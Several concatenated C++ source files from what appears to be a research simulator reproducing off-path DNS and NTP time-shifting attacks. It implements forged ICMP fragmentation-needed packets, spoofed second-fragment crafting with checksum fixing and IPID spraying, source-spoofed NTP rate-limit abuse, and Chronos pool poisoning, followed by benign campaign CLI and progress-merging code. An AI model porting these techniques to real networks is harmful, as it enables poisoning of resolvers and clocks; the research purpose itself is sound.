RunTimeAttack::RunTimeAttack(net::NetStack& attacker, RunTimeConfig config)
    : stack_(attacker),
      config_(std::move(config)),
      abuser_(attacker, config_.victim, config_.abuse) {}

void RunTimeAttack::run(std::function<bool()> success_check,
                        std::function<void(const AttackOutcome&)> done) {
  success_check_ = std::move(success_check);
  done_ = std::move(done);
  started_ = stack_.now();
  // The time-shift phase: from here until finish() the attacker starves
  // honest NTP and the victim coasts onto attacker time.
  DNSTIME_TRACE_BEGIN(started_.ns(), "attack", "shift");
  discover();
  stack_.loop().schedule_after(config_.check_interval, [this] { tick(); });
}

void RunTimeAttack::stop() {
  finished_ = true;
  abuser_.stop();
}

void RunTimeAttack::discover() {
  if (finished_) return;
  switch (config_.discovery) {
    case RunTimeConfig::Discovery::kKnownList:
      // P1: everything at once; no further discovery needed.
      abuser_.disrupt_all(config_.known_servers);
      return;
    case RunTimeConfig::Discovery::kRefidLeak:
      query_refid();
      break;
    case RunTimeConfig::Discovery::kConfigInterface:
      query_config();
      break;
  }
  stack_.loop().schedule_after(config_.discovery_interval,
                               [this] { discover(); });
}

void RunTimeAttack::note_upstream(Ipv4Addr addr) {
  if (addr == kAnyAddr || addr == stack_.addr()) return;
  for (Ipv4Addr known : discovered_) {
    if (known == addr) return;
  }
  discovered_.push_back(addr);
  DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "upstream-discovered");
  abuser_.disrupt(addr);
}

void RunTimeAttack::query_refid() {
  // Ordinary mode-3 query to the victim (which serves NTP by default);
  // the mode-4 response's refid names its current system peer (§IV-B2b).
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 1.0;
  u16 port = stack_.ephemeral_port();
  stack_.bind_udp(port, [this, port](const net::UdpEndpoint& from, u16,
                                     BufView payload) {
    stack_.unbind_udp(port);
    if (from.addr != config_.victim) return;
    try {
      ntp::NtpPacket resp = ntp::decode_ntp(payload);
      note_upstream(Ipv4Addr{resp.refid});
    } catch (const DecodeError&) {
    }
  });
  stack_.send_udp(config_.victim, port, kNtpPort, encode_ntp_buf(query));
}

void RunTimeAttack::query_config() {
  u16 port = stack_.ephemeral_port();
  stack_.bind_udp(port, [this, port](const net::UdpEndpoint& from, u16,
                                     BufView payload) {
    stack_.unbind_udp(port);
    if (from.addr != config_.victim) return;
    auto resp = ntp::decode_config_response(payload);
    if (!resp) return;
    for (Ipv4Addr addr : resp->upstream_addrs) note_upstream(addr);
  });
  stack_.send_udp(config_.victim, port, kNtpPort,
                  ntp::encode_config_request());
}

void RunTimeAttack::tick() {
  if (finished_) return;
  if (success_check_ && success_check_()) {
    finish(true);
    return;
  }
  if (stack_.now() - started_ > config_.deadline) {
    finish(false);
    return;
  }
  stack_.loop().schedule_after(config_.check_interval, [this] { tick(); });
}

void RunTimeAttack::finish(bool success) {
  if (finished_) return;
  finished_ = true;
  DNSTIME_TRACE_END(stack_.now().ns(), "attack", "shift");
  abuser_.stop();
  AttackOutcome outcome;
  outcome.success = success;
  outcome.at = stack_.now();
  if (done_) done_(outcome);
}

}  // namespace dnstime::attack
