// Forged ICMP fragmentation-needed (§III-1): trick the nameserver into
// believing the path to the victim resolver has a small MTU, so its DNS
// responses to that resolver fragment.
#pragma once

#include "net/netstack.h"

namespace dnstime::attack {

/// Send the spoofed ICMP type-3/code-4 from `attacker` to `target_ns`,
/// claiming packets target_ns -> victim_resolver need fragmentation to
/// `mtu`. The embedded original header is forged to pass the target's only
/// check (orig_src == its own address).
void force_path_mtu(net::NetStack& attacker, Ipv4Addr target_ns,
                    Ipv4Addr victim_resolver, u16 mtu);

}  // namespace dnstime::attack
