// DNS poisoning attack against Chronos pool generation (§VI-C, Fig. 4).
//
// One successful poisoning during the 24-hour pool-generation window
// plants a pool.ntp.org A RRset with up to 89 attacker addresses and a TTL
// longer than 24 h. Every later hourly query is answered from cache, so
// the pool freezes at (4N honest + 89 malicious) where N is the number of
// honest rounds completed before the poisoning. The attacker needs >= 2/3
// of the pool:  2/3 * (89 + 4N) <= 89  =>  N <= 11 — twelve chances in 24
// hours.
#pragma once

#include "attack/cache_poisoner.h"
#include "dns/resolver.h"

namespace dnstime::attack {

struct ChronosAttackConfig {
  Ipv4Addr resolver_addr;
  /// Attacker NTP servers to flood the pool with; 89 is the maximum that
  /// fits one unfragmented UDP response.
  std::vector<Ipv4Addr> malicious_ntp;
  u32 record_ttl = 25 * 3600;  ///< > 24 h so the cache outlives the window
  dns::DnsName pool_name = dns::DnsName::from_string("pool.ntp.org");
};

class ChronosAttack {
 public:
  ChronosAttack(net::NetStack& attacker, ChronosAttackConfig config);

  /// Closed-form §VI-C success predicate: does injecting
  /// `malicious_count` addresses after `honest_rounds` completed honest
  /// queries (4 addresses each) give the attacker >= 2/3 of the pool?
  [[nodiscard]] static bool attacker_wins(int honest_rounds,
                                          std::size_t malicious_count = 89);
  /// Largest N for which the attack still succeeds (the paper's N <= 11).
  [[nodiscard]] static int max_tolerable_honest_rounds(
      std::size_t malicious_count = 89);

  /// Lab-variant injection used by the evaluation scenarios: place the
  /// malicious RRset directly into a resolver's cache (stands in for a
  /// completed fragmentation poisoning; the full off-path pipeline is
  /// exercised by CachePoisoner/BootTimeAttack).
  void inject_whitebox(dns::Resolver& resolver) const;

  [[nodiscard]] const ChronosAttackConfig& config() const { return config_; }
  [[nodiscard]] net::NetStack& stack() { return stack_; }

 private:
  net::NetStack& stack_;
  ChronosAttackConfig config_;
};

}  // namespace dnstime::attack
