#include "attack/cache_poisoner.h"

#include "attack/icmp_mtu_attack.h"
#include "common/log.h"
#include "obs/trace.h"

namespace dnstime::attack {

CachePoisoner::CachePoisoner(net::NetStack& attacker, PoisonerConfig config)
    : stack_(attacker), config_(std::move(config)) {}

CachePoisoner::~CachePoisoner() { stop(); }

void CachePoisoner::start(std::function<void()> on_armed) {
  on_armed_ = std::move(on_armed);
  running_ = true;
  // Step 1 (§III-1): shrink the nameserver's path MTU to the resolver.
  force_path_mtu(stack_, config_.ns_addr, config_.resolver_addr, config_.mtu);
  // Step 2: learn the response layout by asking the nameserver ourselves.
  stack_.loop().schedule_after(sim::Duration::millis(100),
                               [this] { fetch_template(); });
}

void CachePoisoner::stop() {
  running_ = false;
  replant_event_.cancel();
}

void CachePoisoner::fetch_template() {
  if (!running_) return;
  dns::DnsMessage query;
  query.id = stack_.rng().next_u16();
  query.rd = false;
  query.questions = {dns::DnsQuestion{config_.target_name, dns::RrType::kA}};
  u16 port = stack_.ephemeral_port();
  auto got = std::make_shared<bool>(false);
  stack_.bind_udp(port, [this, got, port](const net::UdpEndpoint& from, u16,
                                          BufView payload) {
    if (from.addr != config_.ns_addr || *got) return;
    *got = true;
    stack_.unbind_udp(port);
    template_response_ = payload.to_bytes();
    // Step 3 (§III-2/3): craft the spoofed fragment.
    CraftConfig cc;
    cc.ns_addr = config_.ns_addr;
    cc.resolver_addr = config_.resolver_addr;
    cc.mtu = config_.mtu;
    cc.malicious_addrs = config_.malicious_addrs;
    crafted_ = craft_spoofed_second_fragment(template_response_, cc);
    if (!crafted_) {
      DNSTIME_LOG(kWarn, "poisoner", "crafting failed (response too small "
                  "or no rewritable records)");
      return;
    }
    measure_ipid();
  });
  stack_.send_udp(config_.ns_addr, port, kDnsPort, encode_dns_buf(query));
  // Retry if the template fetch is lost.
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this, got, port] {
                                 if (*got || !running_) return;
                                 stack_.unbind_udp(port);
                                 fetch_template();
                               });
}

void CachePoisoner::measure_ipid() {
  if (!running_) return;
  prober_ = std::make_unique<IpidProber>(stack_, config_.ns_addr,
                                         config_.ipid);
  prober_->run([this](const IpidPrediction& prediction) {
    prediction_ = prediction;
    if (!prediction.valid) {
      DNSTIME_LOG(kWarn, "poisoner", "IPID measurement failed");
      return;
    }
    replant();
  });
}

void CachePoisoner::replant() {
  if (!running_ || !crafted_) return;
  rounds_++;
  // Spray fragments covering the IPID window expected during the next
  // replant interval.
  const u64 planted_before = planted_;
  sim::Time mid = stack_.now() + config_.replant_interval / 2;
  for (u16 ipid : spray_window(prediction_, mid, config_.spray_width)) {
    net::Ipv4Packet frag = crafted_->fragment;
    frag.id = ipid;
    stack_.send_raw(frag);
    planted_++;
  }
  DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "spray",
                        planted_ - planted_before);
  if (!armed_) {
    armed_ = true;
    DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "armed");
    if (on_armed_) on_armed_();
  }
  // Refresh the IPID estimate with a single probe each round (the paper's
  // low-volume loop), then replant before the reassembly timeout.
  replant_event_ = stack_.loop().schedule_after(
      config_.replant_interval, [this] {
        prober_ = std::make_unique<IpidProber>(
            stack_, config_.ns_addr,
            IpidProber::Config{.probe_name = config_.ipid.probe_name,
                               .probes = 1,
                               .spacing = sim::Duration::millis(100)});
        prober_->run([this](const IpidPrediction& p) {
          if (p.valid) {
            // Keep the fitted rate, refresh the base observation.
            prediction_.last_observed = p.last_observed;
            prediction_.observed_at = p.observed_at;
          }
          replant();
        });
      });
}

void CachePoisoner::verify_poisoned(const dns::DnsName& name,
                                    std::function<void(bool)> done) {
  dns::DnsMessage probe;
  probe.id = stack_.rng().next_u16();
  probe.rd = false;  // cache-only
  probe.questions = {dns::DnsQuestion{name, dns::RrType::kA}};
  u16 port = stack_.ephemeral_port();
  auto finished = std::make_shared<bool>(false);
  stack_.bind_udp(port, [this, done, port, finished](
                            const net::UdpEndpoint&, u16,
                            BufView payload) {
    if (*finished) return;
    *finished = true;
    stack_.unbind_udp(port);
    bool poisoned = false;
    try {
      dns::DnsMessage resp = dns::decode_dns(payload);
      for (const auto& rr : resp.answers) {
        for (Ipv4Addr bad : config_.malicious_addrs) {
          if (rr.type == dns::RrType::kA && rr.a == bad) poisoned = true;
        }
      }
    } catch (const DecodeError&) {
    }
    done(poisoned);
  });
  stack_.send_udp(config_.resolver_addr, port, kDnsPort, encode_dns_buf(probe));
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this, done, port, finished] {
                                 if (*finished) return;
                                 *finished = true;
                                 stack_.unbind_udp(port);
                                 done(false);
                               });
}

}  // namespace dnstime::attack
