// Boot-time attack orchestrator (§IV-A, Fig. 2).
//
// Keeps the resolver's defragmentation cache primed (CachePoisoner),
// optionally triggers the resolver's upstream query through an open
// resolver or a co-located SMTP host, and reports success as soon as the
// poisoned records are observable in the cache. A victim NTP client that
// boots after that point takes all its servers from the attacker.
#pragma once

#include "attack/cache_poisoner.h"
#include "attack/query_trigger.h"

namespace dnstime::attack {

struct AttackOutcome {
  bool success = false;
  sim::Time at;                ///< when success was detected
  u64 fragments_planted = 0;
  u64 replant_rounds = 0;
};

struct BootTimeConfig {
  PoisonerConfig poison;
  enum class Trigger { kNone, kOpenResolver, kSmtp };
  Trigger trigger = Trigger::kNone;
  Ipv4Addr smtp_host;  ///< for Trigger::kSmtp
  /// The pool A TTL is 150 s, so a fresh upstream query can be forced at
  /// most that often.
  sim::Duration trigger_interval = sim::Duration::seconds(150);
  sim::Duration check_interval = sim::Duration::seconds(10);
  sim::Duration deadline = sim::Duration::minutes(60);
};

class BootTimeAttack {
 public:
  BootTimeAttack(net::NetStack& attacker, BootTimeConfig config);

  /// Override the success detection (used when the victim resolver is not
  /// open, so RD=0 probing from outside is impossible — the lab/scenario
  /// checks the victim's state directly).
  void set_success_check(std::function<bool()> check) {
    success_check_ = std::move(check);
  }

  void run(std::function<void(const AttackOutcome&)> done);
  void stop();

  [[nodiscard]] CachePoisoner& poisoner() { return poisoner_; }

 private:
  void tick();
  void fire_trigger();
  void finish(bool success);

  net::NetStack& stack_;
  BootTimeConfig config_;
  CachePoisoner poisoner_;
  std::function<bool()> success_check_;
  std::function<void(const AttackOutcome&)> done_;
  sim::Time started_;
  bool finished_ = false;
};

}  // namespace dnstime::attack
