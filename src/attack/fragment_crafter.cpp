#include "attack/fragment_crafter.h"

#include "attack/checksum_fixer.h"
#include "net/fragmentation.h"
#include "net/udp.h"

namespace dnstime::attack {

std::optional<CraftedFragment> craft_spoofed_second_fragment(
    std::span<const u8> template_dns_response, const CraftConfig& config) {
  if (config.malicious_addrs.empty()) return std::nullopt;

  // Datagram layout: 8-byte UDP header + DNS message. Offsets within the
  // DNS message shift by +8 in the datagram.
  const std::size_t datagram_len =
      net::kUdpHeaderSize + template_dns_response.size();
  const std::size_t f1_payload = net::fragment_payload_capacity(config.mtu);
  if (datagram_len <= static_cast<std::size_t>(config.mtu) -
                          net::kIpv4HeaderSize ||
      f1_payload == 0 || f1_payload >= datagram_len) {
    return std::nullopt;  // response would not fragment at this MTU
  }

  // Locate record fields in the template.
  std::vector<dns::RecordSpan> spans;
  try {
    (void)dns::decode_dns(template_dns_response, &spans);
  } catch (const DecodeError&) {
    return std::nullopt;
  }

  // Original second-fragment bytes (what the genuine f2 will contain).
  Bytes datagram(datagram_len, 0);
  // UDP header bytes are in f1 (f1_payload >= 8 for any sane MTU), so the
  // f2 slice never includes them; fill only the DNS part.
  std::copy(template_dns_response.begin(), template_dns_response.end(),
            datagram.begin() + net::kUdpHeaderSize);
  Bytes f2_orig(datagram.begin() + static_cast<std::ptrdiff_t>(f1_payload),
                datagram.end());

  auto in_f2 = [&](std::size_t dgram_offset, std::size_t len) {
    return dgram_offset >= f1_payload &&
           dgram_offset + len <= datagram_len;
  };

  // Mutate: rewrite A-record rdata wholly inside f2; raise TTLs; choose a
  // sacrificial word inside one rewritten record's TTL.
  Bytes mutated = datagram;
  std::size_t rewritten = 0;
  std::optional<std::size_t> fix_offset_dgram;
  std::size_t addr_cursor = 0;

  for (const auto& span : spans) {
    if (span.type != dns::RrType::kA || span.rdata_length != 4) continue;
    std::size_t rdata_dgram = span.rdata_offset + net::kUdpHeaderSize;
    if (!in_f2(rdata_dgram, 4)) continue;

    Ipv4Addr addr =
        config.malicious_addrs[addr_cursor++ % config.malicious_addrs.size()];
    auto octets = addr.octets();
    std::copy(octets.begin(), octets.end(),
              mutated.begin() + static_cast<std::ptrdiff_t>(rdata_dgram));
    rewritten++;

    std::size_t ttl_dgram = span.ttl_offset + net::kUdpHeaderSize;
    if (in_f2(ttl_dgram, 4)) {
      // TTL := [high, 0, 0, 0]; lower bytes may be consumed by the
      // checksum compensation below.
      mutated[ttl_dgram] = config.ttl_high_byte;
      mutated[ttl_dgram + 1] = 0;
      mutated[ttl_dgram + 2] = 0;
      mutated[ttl_dgram + 3] = 0;
      if (!fix_offset_dgram) {
        // Sacrificial word: a 16-bit slot at an even datagram offset
        // inside the TTL's low three bytes (so the high byte keeps the
        // TTL large).
        std::size_t candidate =
            (ttl_dgram % 2 == 0) ? ttl_dgram + 2 : ttl_dgram + 1;
        if (in_f2(candidate, 2)) fix_offset_dgram = candidate;
      }
    }
  }

  if (rewritten == 0 || !fix_offset_dgram) return std::nullopt;

  Bytes f2_mut(mutated.begin() + static_cast<std::ptrdiff_t>(f1_payload),
               mutated.end());
  // The fragment boundary is 8-aligned, so datagram parity == fragment
  // parity and the compensation stays word-aligned.
  std::size_t fix_in_f2 = *fix_offset_dgram - f1_payload;
  if (!fix_fragment_sum(f2_orig, f2_mut, fix_in_f2)) return std::nullopt;

  CraftedFragment out;
  out.rewritten_records = rewritten;
  out.first_fragment_payload = f1_payload;
  out.fix_offset_in_fragment = fix_in_f2;
  out.fragment.src = config.ns_addr;
  out.fragment.dst = config.resolver_addr;
  out.fragment.protocol = net::kProtoUdp;
  out.fragment.more_fragments = false;
  out.fragment.frag_offset_units = static_cast<u16>(f1_payload / 8);
  out.fragment.payload = std::move(f2_mut);
  return out;
}

}  // namespace dnstime::attack
