#include "attack/ratelimit_abuser.h"

#include "ntp/packet.h"

namespace dnstime::attack {

RateLimitAbuser::RateLimitAbuser(net::NetStack& attacker, Ipv4Addr victim,
                                 AbuserConfig config)
    : stack_(attacker), victim_(victim), config_(config) {}

RateLimitAbuser::~RateLimitAbuser() { stop(); }

void RateLimitAbuser::disrupt(Ipv4Addr server) {
  if (targets_.contains(server)) return;
  targets_[server] = sim::EventHandle{};
  flood_tick(server);
}

void RateLimitAbuser::disrupt_all(const std::vector<Ipv4Addr>& servers) {
  for (Ipv4Addr s : servers) disrupt(s);
}

void RateLimitAbuser::relent(Ipv4Addr server) {
  auto it = targets_.find(server);
  if (it == targets_.end()) return;
  it->second.cancel();
  targets_.erase(it);
}

void RateLimitAbuser::stop() {
  for (auto& [server, handle] : targets_) handle.cancel();
  targets_.clear();
}

void RateLimitAbuser::flood_tick(Ipv4Addr server) {
  auto it = targets_.find(server);
  if (it == targets_.end()) return;

  // Mode-3 query, source address forged to the victim's. The source port
  // is irrelevant: ntpd's `restrict limited` accounting is per address.
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 1.0;  // arbitrary; the server echoes it to the victim

  net::Ipv4Packet pkt;
  pkt.src = victim_;
  pkt.dst = server;
  pkt.protocol = net::kProtoUdp;
  pkt.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort, kNtpPort,
                                    victim_, server);
  stack_.send_raw(std::move(pkt));
  spoofed_++;

  it->second = stack_.loop().schedule_after(
      config_.spacing, [this, server] { flood_tick(server); });
}

}  // namespace dnstime::attack
