#include "attack/icmp_mtu_attack.h"

#include "net/icmp.h"

namespace dnstime::attack {

void force_path_mtu(net::NetStack& attacker, Ipv4Addr target_ns,
                    Ipv4Addr victim_resolver, u16 mtu) {
  attacker.send_raw(net::make_frag_needed_packet(
      attacker.addr(), target_ns, target_ns, victim_resolver, mtu));
}

}  // namespace dnstime::attack
