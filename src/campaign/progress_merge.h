// Merging reader for campaign progress streams (JSON Lines).
//
// A single-process campaign writes one --progress file; a distributed one
// writes a directory: worker-<id>.jsonl per process (per-scenario counts,
// no campaign_* fields) plus coordinator.jsonl (campaign-level lines
// only). ProgressMerger folds any number of such streams into one fleet
// view: per-scenario counts are summed across files and the success rate
// and Wilson interval are recomputed from the sums, so the merged table
// is exactly what a single-process run over the same trials would show.
//
// Each stream is fed in arbitrary chunks (tail -f style); bytes after the
// last newline are carried per file until their line completes, so
// interleaved partial reads never produce torn lines.
#pragma once

#include <cstddef>
#include <map>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/types.h"

namespace dnstime::campaign {

class ProgressMerger {
 public:
  /// Appends a chunk of stream `file_id` (any stable small integer; the
  /// watcher uses the file's discovery index). Complete lines are folded
  /// immediately, the tail is buffered.
  void feed(std::size_t file_id, const char* data, std::size_t len);

  struct MergedRow {
    std::string name;
    u64 done = 0;
    u64 trials = 0;  ///< per-scenario target (same in every stream)
    u64 successes = 0;
    double rate = 0.0;
    double wilson_low = 0.0;
    double wilson_high = 1.0;
  };

  struct Snapshot {
    std::vector<MergedRow> rows;  ///< first-seen order across all streams
    u64 campaign_done = 0;   ///< newest campaign-level line wins
    u64 campaign_total = 0;
    double elapsed_s = 0.0;
    double eta_s = 0.0;
    u64 lines = 0;
    u64 bad_lines = 0;
  };

  /// The current merged view. Rates/intervals are recomputed from the
  /// summed counts, not averaged from per-stream values.
  [[nodiscard]] Snapshot snapshot() const;

 private:
  void fold_line(std::size_t file_id, const std::string& line);

  /// Latest per-scenario counters one stream reported (cumulative within
  /// the stream, so "latest" is also "largest").
  struct Cell {
    u64 done = 0;
    u64 successes = 0;
  };
  struct Stream {
    std::string carry;  ///< bytes after the last newline
    std::vector<Cell> cells;  ///< by scenario index
  };

  std::vector<std::string> names_;  ///< scenario index -> name
  std::vector<u64> trials_;         ///< scenario index -> trials target
  std::unordered_map<std::string, std::size_t> index_;
  std::map<std::size_t, Stream> streams_;  ///< ordered: deterministic sums
  u64 campaign_done_ = 0;
  u64 campaign_total_ = 0;
  double elapsed_s_ = 0.0;
  double eta_s_ = 0.0;
  u64 lines_ = 0;
  u64 bad_lines_ = 0;
};

}  // namespace dnstime::campaign
