#include "campaign/cli.h"

#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace dnstime::campaign {
namespace {

void usage(const char* prog, bool scenario_flags) {
  std::fprintf(stderr, "usage: %s [--trials N] [--threads T] [--seed S]%s\n",
               prog, scenario_flags ? " [--filter PREFIX] [--json]" : "");
}

}  // namespace

CliOptions parse_cli(int argc, char** argv, CliOptions defaults,
                     bool scenario_flags) {
  CliOptions opts = std::move(defaults);
  for (int i = 1; i < argc; ++i) {
    const char* flag = argv[i];
    if (scenario_flags && std::strcmp(flag, "--json") == 0) {
      opts.json = true;
      continue;
    }
    const bool takes_value =
        std::strcmp(flag, "--trials") == 0 ||
        std::strcmp(flag, "--threads") == 0 ||
        std::strcmp(flag, "--seed") == 0 ||
        (scenario_flags && std::strcmp(flag, "--filter") == 0);
    if (!takes_value) {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], flag);
      usage(argv[0], scenario_flags);
      opts.ok = false;
      return opts;
    }
    if (i + 1 >= argc) {
      std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0], flag);
      usage(argv[0], scenario_flags);
      opts.ok = false;
      return opts;
    }
    const char* value = argv[++i];
    if (std::strcmp(flag, "--trials") == 0) {
      opts.config.trials = static_cast<u32>(std::atoi(value));
    } else if (std::strcmp(flag, "--threads") == 0) {
      opts.config.threads = static_cast<u32>(std::atoi(value));
    } else if (std::strcmp(flag, "--seed") == 0) {
      opts.config.seed = static_cast<u64>(std::atoll(value));
    } else {
      opts.filter = value;
    }
  }
  return opts;
}

}  // namespace dnstime::campaign
