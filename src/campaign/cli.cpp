#include "campaign/cli.h"

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <limits>

namespace dnstime::campaign {
namespace {

void usage(const char* prog, bool scenario_flags) {
  std::fprintf(stderr,
               "usage: %s [--trials N] [--threads T] [--seed S]\n"
               "       [--journal DIR] [--resume] [--out PATH] [--json]%s\n",
               prog, scenario_flags ? " [--filter PREFIX]" : "");
}

/// Strict unsigned-decimal token parse. std::strtoull alone accepts
/// leading whitespace, '+'/'-' (negatives wrap around!) and stops at
/// trailing junk — all of which must be errors for a flag value.
bool parse_u64_token(const char* s, u64& out) {
  if (s == nullptr || *s == '\0') return false;
  if (!std::isdigit(static_cast<unsigned char>(*s))) return false;
  errno = 0;
  char* end = nullptr;
  unsigned long long v = std::strtoull(s, &end, 10);
  if (errno == ERANGE || *end != '\0') return false;
  out = v;
  return true;
}

}  // namespace

CliOptions parse_cli(int argc, char** argv, CliOptions defaults,
                     bool scenario_flags) {
  CliOptions opts = std::move(defaults);
  // Call sites print their own (literal, compiler-checked) message first,
  // then `return fail();` to append the usage line and flag the error.
  auto fail = [&]() -> CliOptions& {
    usage(argv[0], scenario_flags);
    opts.ok = false;
    return opts;
  };
  for (int i = 1; i < argc; ++i) {
    const char* flag = argv[i];
    if (std::strcmp(flag, "--json") == 0) {
      opts.json = true;
      continue;
    }
    if (std::strcmp(flag, "--resume") == 0) {
      opts.config.resume = true;
      continue;
    }
    const bool takes_value =
        std::strcmp(flag, "--trials") == 0 ||
        std::strcmp(flag, "--threads") == 0 ||
        std::strcmp(flag, "--seed") == 0 ||
        std::strcmp(flag, "--journal") == 0 ||
        std::strcmp(flag, "--out") == 0 ||
        (scenario_flags && std::strcmp(flag, "--filter") == 0);
    if (!takes_value) {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], flag);
      return fail();
    }
    if (i + 1 >= argc) {
      std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0], flag);
      return fail();
    }
    const char* value = argv[++i];
    u64 parsed = 0;
    if (std::strcmp(flag, "--trials") == 0) {
      if (!parse_u64_token(value, parsed) || parsed == 0 ||
          parsed > std::numeric_limits<u32>::max()) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--trials' "
                     "(want an integer in 1..4294967295)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.trials = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--threads") == 0) {
      if (!parse_u64_token(value, parsed) ||
          parsed > std::numeric_limits<u32>::max()) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--threads' "
                     "(want an unsigned integer; 0 = all cores, "
                     "capped at 1024)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.threads = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--seed") == 0) {
      if (!parse_u64_token(value, parsed)) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--seed' "
                     "(want an unsigned 64-bit integer)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.seed = parsed;
    } else if (std::strcmp(flag, "--journal") == 0) {
      opts.config.journal_dir = value;
    } else if (std::strcmp(flag, "--out") == 0) {
      opts.out = value;
    } else {
      opts.filter = value;
    }
  }
  if (opts.config.resume && opts.config.journal_dir.empty()) {
    std::fprintf(stderr, "%s: '--resume' requires '--journal DIR'\n",
                 argv[0]);
    return fail();
  }
  return opts;
}

bool write_report(const CliOptions& opts, const CampaignReport& report) {
  // Journaled runs carry no per-trial rows in memory — the shards hold
  // them — so their JSON serialises aggregates only. This also keeps the
  // output comparable across journaled runs, resumes and thread counts.
  const bool include_trials = opts.config.journal_dir.empty();
  std::string text =
      opts.json ? report.to_json(include_trials) + "\n" : report.to_table();
  if (opts.out.empty()) {
    if (std::fwrite(text.data(), 1, text.size(), stdout) != text.size()) {
      std::fprintf(stderr, "failed writing report to stdout\n");
      return false;
    }
    return true;
  }
  std::FILE* f = std::fopen(opts.out.c_str(), "w");
  if (f == nullptr) {
    std::fprintf(stderr, "cannot open '%s' for writing: %s\n",
                 opts.out.c_str(), std::strerror(errno));
    return false;
  }
  const bool wrote = std::fwrite(text.data(), 1, text.size(), f) ==
                     text.size();
  const bool closed = std::fclose(f) == 0;
  if (!wrote || !closed) {
    std::fprintf(stderr, "failed writing report to '%s'\n", opts.out.c_str());
    return false;
  }
  return true;
}

}  // namespace dnstime::campaign
