#include "campaign/cli.h"

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <limits>
#include <optional>

#include "common/buffer.h"
#include "common/log.h"
#include "obs/counters.h"

namespace dnstime::campaign {
namespace {

void usage(const char* prog, bool scenario_flags) {
  std::fprintf(stderr,
               "usage: %s [--trials N] [--threads T] [--seed S]\n"
               "       [--journal DIR] [--resume] [--out PATH] [--json]\n"
               "       [--metrics] [--trace FILE] [--trace-index N]\n"
               "       [--dump DIR] [--dump-on auto|error|timeout|"
               "attack-failed|always]\n"
               "       [--progress FILE] [--workers N] "
               "[--log-level trace|debug|info|warn|off]%s\n",
               prog, scenario_flags ? " [--filter PREFIX]" : "");
}

/// Strict unsigned-decimal token parse. std::strtoull alone accepts
/// leading whitespace, '+'/'-' (negatives wrap around!) and stops at
/// trailing junk — all of which must be errors for a flag value.
bool parse_u64_token(const char* s, u64& out) {
  if (s == nullptr || *s == '\0') return false;
  if (!std::isdigit(static_cast<unsigned char>(*s))) return false;
  errno = 0;
  char* end = nullptr;
  unsigned long long v = std::strtoull(s, &end, 10);
  if (errno == ERANGE || *end != '\0') return false;
  out = v;
  return true;
}

/// Process-wide buffer-pool stats as JSON: totals plus a sparse per-class
/// map keyed by block size (classes with no activity are omitted, so quiet
/// size classes do not bloat the output).
std::string buffer_pool_json() {
  const BufferPool::Stats s = BufferPool::aggregate_stats();
  std::string out = "{\"pool_hits\":" + std::to_string(s.pool_hits);
  out += ",\"fresh_allocs\":" + std::to_string(s.fresh_allocs);
  out += ",\"oversize_allocs\":" + std::to_string(s.oversize_allocs);
  out += ",\"outstanding\":" + std::to_string(s.outstanding);
  out += ",\"cached_blocks\":" + std::to_string(s.cached_blocks);
  out += ",\"cached_bytes\":" + std::to_string(s.cached_bytes);
  out += ",\"classes\":{";
  bool first = true;
  for (std::size_t i = 0; i < BufferPool::kNumClasses; ++i) {
    const BufferPool::Stats::PerClass& pc = s.classes[i];
    if (pc.pool_hits == 0 && pc.fresh_allocs == 0 && pc.outstanding == 0 &&
        pc.cached_blocks == 0) {
      continue;
    }
    if (!first) out += ",";
    first = false;
    const std::size_t size = std::size_t{1}
                             << (BufferPool::kMinClassShift + i);
    out += "\"" + std::to_string(size) + "\":{";
    out += "\"pool_hits\":" + std::to_string(pc.pool_hits);
    out += ",\"fresh_allocs\":" + std::to_string(pc.fresh_allocs);
    out += ",\"outstanding\":" + std::to_string(pc.outstanding);
    out += ",\"cached_blocks\":" + std::to_string(pc.cached_blocks);
    out += ",\"cached_bytes\":" + std::to_string(pc.cached_bytes);
    out += "}";
  }
  out += "}}";
  return out;
}

/// The --metrics JSON value: the registry snapshot's counters/histograms
/// with the buffer-pool block spliced in as a third key.
std::string metrics_json() {
  std::string out = obs::Registry::instance().snapshot().to_json();
  // snapshot JSON is a {"counters":...,"histograms":...} object; graft
  // "buffer_pool" on before its closing brace.
  out.pop_back();
  out += ",\"buffer_pool\":" + buffer_pool_json() + "}";
  return out;
}

/// The --metrics section for table reports.
std::string metrics_table() {
  std::string out = "\n== metrics ==\n";
  out += obs::Registry::instance().snapshot().to_table();
  const BufferPool::Stats s = BufferPool::aggregate_stats();
  char line[256];
  std::snprintf(line, sizeof line,
                "buffer pool: hits=%llu fresh=%llu oversize=%llu "
                "outstanding=%llu cached=%llu blocks / %llu bytes\n",
                static_cast<unsigned long long>(s.pool_hits),
                static_cast<unsigned long long>(s.fresh_allocs),
                static_cast<unsigned long long>(s.oversize_allocs),
                static_cast<unsigned long long>(s.outstanding),
                static_cast<unsigned long long>(s.cached_blocks),
                static_cast<unsigned long long>(s.cached_bytes));
  out += line;
  return out;
}

}  // namespace

CliOptions parse_cli(int argc, char** argv, CliOptions defaults,
                     bool scenario_flags) {
  CliOptions opts = std::move(defaults);
  // Call sites print their own (literal, compiler-checked) message first,
  // then `return fail();` to append the usage line and flag the error.
